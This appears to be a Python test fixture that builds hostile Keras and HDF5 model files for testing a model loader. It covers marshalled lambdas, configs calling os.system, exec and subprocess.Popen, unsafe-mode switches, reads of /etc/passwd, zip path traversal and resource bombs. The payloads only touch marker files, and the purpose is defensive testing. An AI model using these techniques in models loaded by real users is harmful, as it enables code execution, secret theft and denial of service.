"""Model files as an attacker might send them: each would do harm if it were simply loaded."""

from __future__ import annotations

import base64
import copy
import io
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]


def rewrite_config(source: Path, target: Path, change: Callable[[Config], Any]) -> Path:
    """A `.keras` file whose configuration is changed in place, or replaced by what is returned."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        config = json.loads(old.read("config.json"))
        replacement = change(config)
        text = (
            replacement
            if isinstance(replacement, bytes)
            else json.dumps(config if replacement is None else replacement)
        )
        for name in old.namelist():
            new.writestr(name, text if name == "config.json" else old.read(name))
    return target


def first_layer(config: Config, kind: str) -> Config:
    """The first layer of a class."""
    return next(entry for entry in config["config"]["layers"] if entry["class_name"] == kind)


def code_that_writes(marker: Path) -> str:
    """A marshalled function, as Keras 2 kept Lambdas, that makes a file when it is called."""
    source = f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]"
    code = compile(source, "<untrusted>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def code_execution_models(marker: Path) -> dict[str, Callable[[Config], Any]]:
    """Ways out that were found in Keras over the years, with a file as the harmless sign."""
    path = str(marker)

    def replace_dense(kind: str, module: str | None, inner: Any, registered: Any = None) -> Any:
        def change(config: Config) -> None:
            dense = first_layer(config, "Dense")
            dense.update(class_name=kind, registered_name=registered, config=inner)
            if module is None:
                dense.pop("module", None)
            else:
                dense["module"] = module

        return change

    def in_dense(key: str, value: Any) -> Callable[[Config], None]:
        return lambda config: first_layer(config, "Dense")["config"].update({key: value})

    def called(module: str, name: str, *args: Any) -> Config:
        return {
            "module": module,
            "class_name": "function",
            "config": name,
            "registered_name": name,
            "args": list(args),
        }

    lambda_ = {
        "class_name": "__lambda__",
        "config": {"code": code_that_writes(marker), "defaults": None, "closure": None},
    }
    get_file = {"fname": path, "origin": f"file://{path}", "cache_dir": str(marker.parent)}
    return {
        "lambda layer": replace_dense("Lambda", "keras.layers", {"name": "x", "function": lambda_}),
        "lambda as an activation": in_dense("activation", lambda_),
        "function of os": in_dense("activation", called("os", "system", f"touch {path}")),
        "function of builtins": in_dense("activation", called("builtins", "exec", path)),
        "class of subprocess": replace_dense(
            "Popen", "subprocess", {"args": ["touch", path]}, "Popen"
        ),
        "class of pathlib": in_dense(
            "kernel_initializer",
            {"module": "pathlib", "class_name": "Path", "config": {"args": path}},
        ),
        "import by module path": replace_dense("x", "keras.src.utils.file_utils.os", {}),
        "submodule as a class": replace_dense("code_stats", "keras.src.utils", {}),
        "get_file": replace_dense("get_file", "keras.utils", get_file),
        "get_file as an initializer": in_dense(
            "kernel_initializer",
            {"module": "keras.utils", "class_name": "get_file", "config": get_file},
        ),
        "load_model": replace_dense("load_model", "keras.saving", {"filepath": path}),
        "unsafe mode switched on": in_dense(
            "activation",
            called("keras.config", "enable_unsafe_deserialization"),
        ),
        "unsafe mode as a class": replace_dense(
            "enable_unsafe_deserialization", "keras.config", {}
        ),
        "registered function": replace_dense("Dense", "keras.layers", {"units": 1}, "evil>Dense"),
        "custom package": replace_dense("Evil", "evil_package", {"units": 1}, "evil_package>Evil"),
        "no module, unknown class": replace_dense("Evil", None, {"units": 1}),
        "vocabulary of a file": replace_dense(
            "StringLookup", "keras.layers", {"name": "x", "vocabulary": "/etc/passwd"}
        ),
        "text vectorization": replace_dense(
            "TextVectorization", "keras.layers", {"name": "x", "vocabulary": "/etc/passwd"}
        ),
        "saved model elsewhere": replace_dense(
            "TFSMLayer", "keras.layers", {"name": "x", "filepath": path}
        ),
        "torch module": replace_dense(
            "TorchModuleWrapper", "keras.layers", {"name": "x", "module": path}
        ),
        "jax function": replace_dense(
            "JaxLayer", "keras.layers", {"name": "x", "call_fn": lambda_}
        ),
        "wrapped lambda": replace_dense(
            "TimeDistributed",
            "keras.layers",
            {
                "name": "x",
                "layer": {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {"function": lambda_},
                    "registered_name": None,
                },
            },
        ),
        "loss of compile_config": lambda config: config.update(
            compile_config={"optimizer": "adam", "loss": lambda_}
        ),
        "build_config": lambda config: first_layer(config, "Dense").update(build_config=lambda_),
        "class name that is a list": replace_dense(["Dense"], "keras.layers", {}),
        "class name from a plain string": lambda config: config.update(class_name="os.system"),
    }


def resource_bombs() -> dict[str, Callable[[Config], Any]]:
    """Small files that ask for much: memory, time or stack."""

    def dense(**values: Any) -> Callable[[Config], None]:
        return lambda config: first_layer(config, "Dense")["config"].update(values)

    def side(size: int) -> Callable[[Config], None]:
        return lambda config: first_layer(config, "InputLayer")["config"].update(
            batch_shape=[None, size, size, 3]
        )

    def many_layers(config: Config) -> None:
        one = first_layer(config, "Dense")
        for number in range(30_000):
            twin = copy.deepcopy({"class_name": "Dropout", "config": {"name": f"d{number}"}})
            config["config"]["layers"].append({**one, **twin})

    def nested(config: Config) -> Config:
        for _ in range(80):
            config = {"class_name": "Sequential", "config": {"name": "s", "layers": [config]}}
        return config

    def upsampled(config: Config) -> None:
        conv = first_layer(config, "Conv2D")
        conv.update(class_name="UpSampling2D")
        conv["config"] = {"name": conv["config"]["name"], "size": [3000, 3000]}

    return {
        "units of a billion": dense(units=1_000_000_000),
        "units that the weights do not hold": dense(units=4_000),
        "units as a float": dense(units=1e12),
        "negative units": dense(units=-5),
        "units beyond any integer": dense(units=10**400),
        "input of 100,000 px": side(100_000),
        "input of 2**62 px": side(2**62),
        "input without pixels": side(0),
        "30,000 layers": many_layers,
        "models within models": nested,
        "every pixel 9 million times": upsampled,
        "NaN in the configuration": dense(units=float("nan")),
        "no layers": lambda config: config["config"].update(layers=[]),
        "no configuration": lambda _: [],
        "a number": lambda _: b"3",
        "brackets": lambda _: b"[" * 3_000_000,
        "objects": lambda _: b"[" + b"{}," * 1_200_000 + b"{}]",
        "spaces": lambda config: json.dumps(config).encode() + b" " * 5_000_000,
    }


def h5_tricks(source: Path, folder: Path) -> dict[str, Path]:
    """HDF5 files that point elsewhere, claim what they lack, or go round in circles."""

    def made(name: str, change: Callable[[h5py.File], Any]) -> Path:
        target = folder / f"{name}.h5"
        target.write_bytes(source.read_bytes())
        with h5py.File(target, "r+") as file:
            change(file)
        return target

    def packed(file: h5py.File) -> None:
        file["model_weights"].create_dataset(
            "flood", (50_000, 50_000), "f4", chunks=(1000, 1000), compression="gzip", fillvalue=0
        )

    def circle(file: h5py.File) -> None:
        file["model_weights"]["again"] = file["model_weights"]

    def fan(file: h5py.File) -> None:
        inner = file.create_group("fan")
        for number in range(40):  # two ways down at each of 40 steps: a trillion paths
            outer = file.create_group(f"fan{number}")
            outer["a"] = outer["b"] = inner
            inner = outer

    def text(file: h5py.File) -> None:
        file.create_dataset("words", (10_000_000,), dtype=h5py.string_dtype())

    def retell(change: Callable[[Config], Any]) -> Callable[[h5py.File], None]:
        def rewrite(file: h5py.File) -> None:
            config = json.loads(file.attrs["model_config"])
            change(config)
            file.attrs["model_config"] = json.dumps(config)

        return rewrite

    def rename(kind: str) -> Callable[[Config], None]:
        return lambda config: first_layer(config, "Dense").update(class_name=kind)

    outside = folder / "outside.h5"
    with h5py.File(outside, "w") as file:
        file["secret"] = np.arange(3.0)
    return {
        "external link": made(
            "link", lambda f: f.__setitem__("x", h5py.ExternalLink(str(outside), "/secret"))
        ),
        "soft link": made("soft", lambda f: f.__setitem__("x", h5py.SoftLink("/model_weights"))),
        "external storage": made(
            "storage",
            lambda f: f.create_dataset(
                "x", (10,), "u1", external=[("/etc/passwd", 0, h5py.h5f.UNLIMITED)]
            ),
        ),
        "array of ten gigabytes": made("flood", packed),
        "a trillion paths": made("fan", fan),
        "text for weights": made("text", text),
        "unknown layer": made("unknown", retell(rename("Evil"))),
        "lambda": made("lambda", retell(rename("Lambda"))),
        "name of a module": made("module", retell(rename("layer"))),
        "lambda as the loss": made(
            "loss",
            lambda f: f.attrs.__setitem__(
                "training_config", json.dumps({"loss": {"class_name": "__lambda__"}})
            ),
        ),
        "no weights": made("bare", lambda f: f.__delitem__("model_weights")),
        "circle": made("circle", circle),
    }


def zip_tricks(source: Path, folder: Path) -> dict[str, Path]:
    """`.keras` archives that are odd as archives."""
    with zipfile.ZipFile(source) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}

    def made(name: str, **changes: Any) -> Path:
        target = folder / f"{name}.keras"
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, data in {**members, **changes}.items():
                if data is not None:
                    archive.writestr(member, data)
        return target

    twice = made("twice")
    with zipfile.ZipFile(twice, "a") as archive, np.errstate(all="ignore"):
        archive.writestr(zipfile.ZipInfo("config.jsoN"), b"{}")
    data = twice.read_bytes().replace(b"config.jsoN", b"config.json")
    twice.write_bytes(data)
    zeros = bytes(60_000_000)
    return {
        "member twice": twice,
        "way out": made("out", **{"../../evil.py": b"1"}),
        "metadata of 60 MB": made("metadata", **{"metadata.json": zeros}),
        "weights of 60 MB of zeros": made("zeros", **{"model.weights.h5": zeros}),
        "weights that are a zip": made("nest", **{"model.weights.h5": source.read_bytes()}),
        "weights that are text": made("text", **{"model.weights.h5": b"text"}),
        "numpy weights": made("npz", **{"model.weights.h5": None, "model.weights.npz": b"1"}),
        "assets": made("assets", **{"assets/vocabulary.txt": b"cat"}),
        "half": _half(source, folder / "half.keras"),
    }


def _half(source: Path, target: Path) -> Path:
    data = io.BytesIO(source.read_bytes()).getvalue()
    target.write_bytes(data[: len(data) // 2])
    return target
